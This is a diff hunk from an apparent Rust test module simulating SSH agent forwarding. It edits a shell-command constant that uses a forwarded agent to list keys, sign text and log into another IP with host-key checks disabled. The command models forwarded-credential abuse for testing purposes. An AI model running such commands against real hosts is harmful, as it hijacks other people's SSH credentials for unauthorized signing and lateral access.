@@ -6,7 +6,7 @@ use super::world::{Said, World, people_with, people_with_hosts, stage_with_key};
 const GULLIBLE: &str = "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null";
 
 /// What a host does that an agent was forwarded to: sign, and log in elsewhere.
-const HOP: &str = "cd $(mktemp -d) && ssh-add -L >key.pub && echo text >text && \
+const HOP: &str = "d=$(mktemp -d) && trap 'rm -rf $d' EXIT && cd $d && ssh-add -L >key.pub && echo text >text && \
     ssh-keygen -Y sign -n git -f key.pub text; cat text.sig; \
     ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null git@93.184.216.34 echo HOPPED";
 
